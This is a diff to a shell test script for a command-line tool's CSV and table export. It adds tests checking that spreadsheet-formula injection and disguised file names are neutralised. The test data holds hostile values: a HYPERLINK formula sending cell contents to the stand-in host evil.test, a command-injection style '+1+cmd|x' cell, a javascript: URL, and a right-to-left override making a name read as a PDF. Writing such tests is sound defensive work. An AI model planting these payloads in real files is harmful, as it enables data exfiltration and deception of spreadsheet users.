@@ -816,6 +816,15 @@ line2"$'\e'"[31m\",,f.pdf,1" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
     expect_eq "json" '[
   {"Id": 2, "Date": "2024-01-02 03:04:05", "Number": "555", "Subject": "say \"hi\", x\nline2\u001b[31m", "Description": "", "FileName": "f.pdf", "New": true}
 ]' "$OUT"
+    # Cells a spreadsheet would run as formulas, and a name that turns its own direction around.
+    sql "INSERT INTO recv (Date, Number, Subject, Description, FileName, New) VALUES
+         ('2023-01-01 00:00:00', '+49 30 1234', '=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")', '-2+3', '@SUM(1+1)', 0),
+         ('2023-01-01 00:00:01', '-5', '+1+cmd|x', char(9) || '=1', 'javascript:alert(5)' || char(8238) || 'fdp.exe', 0)"
+    run list recv --format csv --until 2023-01-01
+    expect_eq "formulas neutralised, numbers kept" "4,2023-01-01 00:00:01,-5,'+1+cmd|x,'"$'\t'"=1,javascript:alert(5)"$'\u202e'"fdp.exe,0
+3,2023-01-01 00:00:00,+49 30 1234,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\",'-2+3,'@SUM(1+1),0" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
+    run list recv --until 2023-01-01
+    expect_contains "the table shows the direction mark" 'javascript:alert(5)\u202efdp.exe' "$OUT"
     run list recv
     expect_contains "table escapes" 'say "hi", x\nline2\x1b[31m' "$OUT"
     [[ "$OUT" != *$'\e'* ]] || fail "the table passed an escape character"
